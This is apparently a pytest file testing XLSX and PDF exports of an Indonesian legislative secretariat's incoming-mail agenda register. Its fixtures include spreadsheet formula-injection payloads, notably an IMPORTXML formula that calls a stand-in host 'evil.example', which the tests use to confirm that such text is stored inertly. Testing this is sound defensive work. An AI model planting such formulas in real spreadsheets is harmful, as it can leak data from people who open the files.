"""Buku Agenda export: XLSX read back with openpyxl, PDF read back with pypdf."""

from __future__ import annotations

import zipfile
from datetime import date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from pypdf import PdfReader

from siapmas_sync.documents.buku_agenda import (
    EMPTY_MESSAGE, TITLE, AgendaRow, agenda_row, export_buku_agenda_pdf, export_buku_agenda_xlsx,
    neutralise_formula,
)
from siapmas_sync.core.models import AgendaItem, Kop, RoutingSuggestion, Submission

WIB = ZoneInfo("Asia/Jakarta")
PERIOD = (date(2026, 11, 1), date(2026, 11, 30))
HEADER = ("No.", "Tgl Terima", "No. Agenda", "Pengirim", "Tgl & No. Surat", "Isi Ringkas", "Diteruskan ke", "Ket.")

INJECTIONS = {
    "isi": '=IMPORTXML("http://evil.example/x", "//a")',
    "pengirim": "+6281234567890",
    "ket": "@SUM(A1:A9)",
    "surat": "-2+3",
    "diteruskan": "\t=1+1",
}


def make_rows(n: int) -> list[AgendaRow]:
    start = datetime(2026, 11, 1, 8, 0, tzinfo=WIB)
    rows = []
    for i in range(1, n + 1):
        rows.append(AgendaRow(
            no=i,
            tgl_terima=start + timedelta(hours=3 * i),
            agenda_no=f"{i:04d}/SIAPMAS/2026",
            pengirim="Dirahasiakan" if i % 5 == 0 else f"Warga Desa Nomor {i}",
            tgl_no_surat=f"{(start + timedelta(hours=3 * i)).day} November 2026 / -",
            isi_ringkas="Jalan rusak dan drainase tersumbat di dusun " + "sangat panjang " * (i % 7) * 6,
            diteruskan_ke="Komisi III" if i % 2 else "Komisi I",
            ket="TERAGENDA",
        ))
    return rows


def injected_row() -> AgendaRow:
    return AgendaRow(
        no=1, tgl_terima=datetime(2026, 11, 3, 9, 30, tzinfo=WIB), agenda_no="0001/SIAPMAS/2026",
        pengirim=INJECTIONS["pengirim"], tgl_no_surat=INJECTIONS["surat"], isi_ringkas=INJECTIONS["isi"],
        diteruskan_ke=INJECTIONS["diteruskan"], ket=INJECTIONS["ket"],
    )


def pdf_pages(path: Path) -> list[str]:
    return [page.extract_text() or "" for page in PdfReader(str(path)).pages]


# --- neutralise_formula --------------------------------------------------------------------


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"),
    ("+62812", "'+62812"),
    ("-5", "'-5"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("Jalan = rusak", "Jalan = rusak"),
    ("", ""),
    ("'sudah", "'sudah"),
])
def test_neutralise_formula(text: str, expected: str) -> None:
    assert neutralise_formula(text) == expected


# --- XLSX -----------------------------------------------------------------------------------


def test_xlsx_has_title_period_header_and_rows(tmp_path: Path) -> None:
    rows = make_rows(12)
    out = export_buku_agenda_xlsx(rows, tmp_path / "sub" / "buku.xlsx", period=PERIOD, kop=Kop())
    assert out == tmp_path / "sub" / "buku.xlsx"
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Buku Agenda"]
    ws = wb["Buku Agenda"]
    assert ws["A1"].value == TITLE
    assert ws["A2"].value == "Periode: 1 November 2026 s.d. 30 November 2026"
    assert tuple(c.value for c in ws[3]) == HEADER
    assert all(c.font.b for c in ws[3])
    assert ws.freeze_panes == "A4"
    data = list(ws.iter_rows(min_row=4, values_only=True))
    assert len(data) == 12
    assert [r[0] for r in data] == list(range(1, 13))
    assert [r[2] for r in data] == [r.agenda_no for r in rows]
    assert data[0][1] == datetime(2026, 11, 1, 11, 0)  # WIB wall time
    assert data[4][3] == "Dirahasiakan"
    assert data[1][6] == "Komisi I"
    # layout and print setup
    assert ws.column_dimensions["F"].width > ws.column_dimensions["A"].width
    assert ws["F4"].alignment.wrap_text
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$3:$3"
    assert not any(p.name.endswith(".tmp") for p in out.parent.iterdir())


def test_xlsx_formula_looking_text_is_stored_as_text(tmp_path: Path) -> None:
    out = export_buku_agenda_xlsx([injected_row()], tmp_path / "b.xlsx", period=PERIOD, kop=Kop())
    ws = openpyxl.load_workbook(out)["Buku Agenda"]
    cells = {c.column_letter: c for c in ws[4]}
    expected = {"D": "pengirim", "E": "surat", "F": "isi", "G": "diteruskan", "H": "ket"}
    for col, key in expected.items():
        cell = cells[col]
        assert cell.data_type == "s", col  # stored as text: never a formula
        assert cell.value == INJECTIONS[key], col  # exactly as typed, no literal apostrophe
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere


def test_xlsx_survives_control_characters_and_huge_text(tmp_path: Path) -> None:
    row = AgendaRow(1, datetime(2026, 11, 2, 10, 0, tzinfo=WIB), "0001/SIAPMAS/2026",
                    "Nama\x00 dengan\x07 kontrol", "-", "x" * 40000 + " 🚧 “kutip”", "Komisi II", "")
    out = export_buku_agenda_xlsx([row], tmp_path / "b.xlsx", period=PERIOD, kop=Kop())
    ws = openpyxl.load_workbook(out)["Buku Agenda"]
    assert ws["D4"].value == "Nama dengan kontrol"
    assert len(ws["F4"].value) <= 32767


def test_xlsx_empty_period(tmp_path: Path) -> None:
    out = export_buku_agenda_xlsx([], tmp_path / "b.xlsx", period=PERIOD, kop=Kop())
    ws = openpyxl.load_workbook(out)["Buku Agenda"]
    assert tuple(c.value for c in ws[3]) == HEADER
    assert ws["A4"].value == EMPTY_MESSAGE


# --- PDF ------------------------------------------------------------------------------------


def test_pdf_has_kop_title_period_rows_and_signature(tmp_path: Path) -> None:
    rows = make_rows(25)
    out = export_buku_agenda_pdf(rows, tmp_path / "buku.pdf", period=PERIOD, kop=Kop())
    reader = PdfReader(str(out))
    box = reader.pages[0].mediabox
    assert float(box.width) > float(box.height)  # landscape
    pages = pdf_pages(out)
    text = "\n".join(pages)
    assert "SEKRETARIAT DPRD KABUPATEN MOJOKERTO" in pages[0]
    assert "BUKU AGENDA SURAT MASUK" in pages[0]
    assert "Periode: 1 November 2026 s.d. 30 November 2026" in pages[0]
    for h in ("No.", "Tgl Terima", "No. Agenda", "Pengirim", "Isi Ringkas", "Diteruskan ke", "Ket."):
        assert h in pages[0]
    for row in rows:
        assert row.agenda_no in text
    assert "Kepala Subbagian Tata Usaha" in pages[-1]
    assert "NIP." in pages[-1]
    assert "Mojokerto, " in pages[-1]
    assert f"Halaman {len(pages)} dari {len(pages)}" in pages[-1]


def test_pdf_200_rows_is_multipage_with_repeated_header(tmp_path: Path) -> None:
    rows = make_rows(200)
    out = export_buku_agenda_pdf(rows, tmp_path / "buku.pdf", period=PERIOD, kop=Kop())
    pages = pdf_pages(out)
    assert len(pages) > 3
    for number, page in enumerate(pages, 1):
        assert "Isi Ringkas" in page and "No. Agenda" in page and "Diteruskan ke" in page, number
        assert f"Halaman {number} dari {len(pages)}" in page
    text = "\n".join(pages)
    for row in rows:
        assert row.agenda_no in text


def test_pdf_long_and_hostile_text_does_not_crash(tmp_path: Path) -> None:
    long_word = "https://drive.google.com/open?id=" + "A" * 400
    row = AgendaRow(1, datetime(2026, 11, 2, 10, 0, tzinfo=WIB), "0001/SIAPMAS/2026",
                    "<b>Nama</b> & \x00", "-", ("Kronologi panjang sekali. " * 800) + long_word + " 🚧 中文",
                    "Komisi II", "=1+1")
    out = export_buku_agenda_pdf([row, injected_row()], tmp_path / "b.pdf", period=PERIOD, kop=Kop())
    text = "\n".join(pdf_pages(out))
    assert "<b>Nama</b> &" in text
    assert "0001/SIAPMAS/2026" in text


def test_pdf_empty_period(tmp_path: Path) -> None:
    out = export_buku_agenda_pdf([], tmp_path / "b.pdf", period=PERIOD, kop=Kop())
    pages = pdf_pages(out)
    assert len(pages) == 1
    assert EMPTY_MESSAGE in pages[0]
    assert "Periode: 1 November 2026 s.d. 30 November 2026" in pages[0]


def test_pdf_is_deterministic_with_fixed_date(tmp_path: Path) -> None:
    rows = make_rows(30)
    a = export_buku_agenda_pdf(rows, tmp_path / "a.pdf", period=PERIOD, kop=Kop(), tanggal=date(2026, 12, 1))
    b = export_buku_agenda_pdf(rows, tmp_path / "b.pdf", period=PERIOD, kop=Kop(), tanggal=date(2026, 12, 1))
    assert a.read_bytes() == b.read_bytes()
    assert "Mojokerto, 1 Desember 2026" in pdf_pages(a)[-1]


@pytest.mark.parametrize("rahasia", [False, True])
def test_agenda_row_from_item(rahasia: bool) -> None:
    sub = Submission(key="k", content_hash="h", received_at=datetime(2026, 11, 3, 9, 30, tzinfo=WIB),
                     nama="Siti Aminah", telepon="+6281111111111", email="siti@example.com",
                     kronologi="Jalan rusak.")
    item = AgendaItem(agenda_no="0003/SIAPMAS/2026", year=2026, seq=3, submission=sub,
                      perihal="Jalan rusak dilaporkan Siti Aminah", routing=RoutingSuggestion("Komisi III", "Komisi III"),
                      rahasia=rahasia)
    row = agenda_row(item, no=3, diteruskan_ke="Komisi III")
    assert (row.no, row.agenda_no, row.tgl_terima) == (3, "0003/SIAPMAS/2026", sub.received_at)
    assert row.tgl_no_surat == "3 November 2026 / -"
    assert row.ket == "TERAGENDA" and row.diteruskan_ke == "Komisi III"
    if rahasia:
        assert row.pengirim == "Dirahasiakan"
        assert "Siti" not in row.isi_ringkas
    else:
        assert row.pengirim == "Siti Aminah"
